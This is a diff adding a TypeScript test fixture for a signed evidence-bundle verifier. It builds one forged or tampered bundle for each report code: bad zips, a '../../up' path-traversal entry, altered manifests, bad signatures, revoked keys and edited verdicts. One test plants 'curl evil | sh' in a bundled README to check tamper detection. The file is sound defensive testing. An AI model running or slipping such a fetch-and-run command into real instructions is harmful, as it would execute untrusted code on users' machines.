@@ -1,0 +1,113 @@
+import { encodeZip } from '../../src/bundle/zip-profile.ts';
+import { sealBundle } from '../../src/bundle/seal.node.ts';
+import { concatBytes } from '../../src/core/bytes.ts';
+import type { VerificationReportCode } from '../../src/model/generated/documents.ts';
+import type { Trust } from '../../src/verify/trust-policy.ts';
+import { promotedRun } from '../bundle/promoted-run.ts';
+import { Forgery } from './forgery.ts';
+import { insiderBundle } from './insider.ts';
+import { keyOf, signer, signerNumber, stranger, trust, trustIn } from './trust.ts';
+
+export const promoted = await promotedRun();
+export const good: Uint8Array = await sealBundle(promoted, { signer });
+/** Held for review by the gate, approved by a person. */
+export const approved = await promotedRun({ answer: 'The Board will perhaps meet again.\n', approver: 'ines' });
+
+export interface Attack {
+  readonly bytes: Uint8Array;
+  /** Default: the policy that believes the signer of the good bundle. */
+  readonly trust?: Trust;
+  /** All codes that verify must find; default: the one under which the attack stands. */
+  readonly found?: readonly VerificationReportCode[];
+}
+
+export const forge = (): Forgery => new Forgery(good);
+const run = 'data/run.json';
+const answer = 'data/outputs/answer.md';
+
+function patched(at: number, ...values: readonly number[]): Uint8Array {
+  const bytes = Uint8Array.from(good);
+  bytes.set(values, at < 0 ? bytes.length + at : at);
+  return bytes;
+}
+
+/** One attack for each code that a report can carry: a new code does not compile without one. */
+export const attacks: Readonly<Record<VerificationReportCode, () => Promise<Attack>>> = {
+  'zip-malformed': async () => ({ bytes: concatBytes([good, Uint8Array.of(0)]) }),
+  // Bit 3 of the flags: "sizes follow the data", which some readers believe.
+  'zip-not-canonical': async () => ({ bytes: patched(6, 8) }),
+  'zip-name': async () => ({ bytes: encodeZip([...forge().named(), { name: `${forge().top}/data/../../up`, bytes: new Uint8Array() }]), found: ['zip-name', 'zip-not-canonical'] }),
+  'zip-too-large': async () => ({ bytes: patched(-14, 0xff, 0xff, 0xff, 0xff) }),
+  'file-missing': async () => ({ bytes: forge().remove(answer).zip() }),
+  'file-unlisted': async () => ({ bytes: forge().put('data/extra.txt', 'more').zip() }),
+  'manifest-malformed': async () => ({
+    bytes: (await forge().edit('manifest-sha256.txt', (text) => text.split('\n').slice(0, -1).reverse().join('\n') + '\n').tagManifest().signed(signer)).zip(),
+  }),
+  'manifest-mismatch': async () => ({ bytes: forge().edit(answer, (text) => text.replace('0.25', '0.75')).zip() }),
+  'tagmanifest-mismatch': async () => {
+    const forgery = forge().edit(answer, (text) => text.replace('0.25', '0.75'));
+    const tagManifest = forgery.bytes('tagmanifest-sha256.txt');
+    return { bytes: forgery.manifests().put('tagmanifest-sha256.txt', tagManifest).zip() };
+  },
+  'subject-mismatch': async () => ({ bytes: forge().edit(answer, (text) => text.replace('0.25', '0.75')).manifests().zip() }),
+  'bag-malformed': async () => ({ bytes: (await forge().edit('bag-info.txt', (text) => `${text}Contact-Email: call@example.org\n`).tagManifest().signed(signer)).zip() }),
+  'signature-missing': async () => ({ bytes: forge().unsigned().zip() }),
+  'envelope-malformed': async () => {
+    const forgery = forge();
+    for (const path of forgery.envelopes()) forgery.json(path, (envelope) => envelope.signatures.push(envelope.signatures[0]));
+    return { bytes: forgery.zip() };
+  },
+  'statement-malformed': async () => ({ bytes: (await forge().signed(signer, (statement) => statement.subject.push({ ...statement.subject[0], name: 'other.txt' }))).zip() }),
+  'signature-invalid': async () => {
+    const forgery = forge();
+    const other = await signer.sign(new Uint8Array(3));
+    const sig = Buffer.from(other).toString('base64');
+    for (const path of forgery.envelopes()) forgery.json(path, (envelope) => (envelope.signatures[0].sig = sig)).put(path.replace('.dsse.json', '.sig'), other);
+    return { bytes: forgery.zip() };
+  },
+  'signer-unknown': async () => ({ bytes: (await forge().signed(stranger)).zip() }),
+  'key-outside-window': async () => ({ bytes: good, trust: trustIn([keyOf(signer, 'ines', { valid_to: '2025-11-24T15:00:00.000Z' })]) }),
+  'key-revoked': async () => ({
+    bytes: good,
+    trust: trustIn([keyOf(signer, 'ines', { revoked: { reason: 'lost', invalid_from: '2029-01-01T00:00:00.000Z', honour_earlier: true } })]),
+  }),
+  'threshold-unmet': async () => ({
+    bytes: good,
+    trust: trustIn([keyOf(signer, 'ines'), keyOf(signerNumber(8), 'omar')], { thresholds: [{ role: 'promoter', owners: 2 }] }),
+  }),
+  'signature-copy-differs': async () => ({ bytes: forge().put(`signatures/${signer.keyId}.sig`, new Uint8Array(64)).zip() }),
+  'not-time-anchored': async () => ({ bytes: good, trust: trustIn([keyOf(signer, 'ines')], { time: { required: true } }) }),
+  'verdict-not-promotable': async () => ({
+    bytes: await insiderBundle(promoted, signer, ({ verdict }) => {
+      verdict.result = 'fail';
+      verdict.ok = false;
+    }),
+    // The step that judged says in the record what it gave.
+    found: ['verdict-not-promotable', 'verdict-differs', 'promotion-unsupported'],
+  }),
+  'verdict-differs': async () => ({ bytes: await insiderBundle(promoted, signer, ({ verdict }) => (verdict.reason = 'all is well')) }),
+  'promotion-unsupported': async () => ({ bytes: await insiderBundle(approved, signer, ({ promotion }) => (promotion.decided_by.id = 'mallory')) }),
+  'document-malformed': async () => ({ bytes: (await forge().edit(run, (text) => `${text}\n`).resealed(signer)).zip() }),
+  'schema-violation': async () => ({ bytes: (await forge().json(run, (document) => (document.more = 1)).resealed(signer)).zip() }),
+  'record-broken': async () => ({
+    bytes: (await forge().edit('data/spans.jsonl', (text) => { const [a = '', b = '', ...rest] = text.split('\n'); return [b, a, ...rest].join('\n'); }).resealed(signer)).zip(),
+  }),
+  'span-open': async () => ({
+    bytes: await insiderBundle(promoted, signer, ({ spans }) => Object.assign(spans[1], { status: 'open', end_unix_nano: null })),
+  }),
+  'span-tree-broken': async () => ({
+    bytes: await insiderBundle(promoted, signer, (papers) => {
+      papers.spans.splice(1, 1);
+      papers.run.record.spans -= 1;
+    }),
+  }),
+  'reference-unresolved': async () => ({ bytes: (await forge().remove('data/input.json').resealed(signer)).zip() }),
+  'source-differs': async () => ({ bytes: await insiderBundle(promoted, signer, ({ sources }) => (sources.sources[0].range.byte_start += 1)) }),
+  'count-mismatch': async () => ({ bytes: (await forge().signed(signer, (statement) => (statement.predicate.counts.claims += 1))).zip() }),
+  'identity-mismatch': async () => ({
+    bytes: (await forge().json('data/promotion.json', (promotion) => (promotion.run_id = promotion.run_id.replace(/.$/, '0'))).resealed(signer)).zip(),
+  }),
+  'readme-differs': async () => ({ bytes: (await forge().edit('data/README.txt', (text) => text.replace('cd evidence', 'curl evil | sh; cd evidence')).resealed(signer)).zip() }),
+  'schema-differs': async () => ({ bytes: (await forge().edit('data/schemas/run.schema.json', (text) => text.replace('A', 'B')).resealed(signer)).zip() }),
+};
+export { trust };
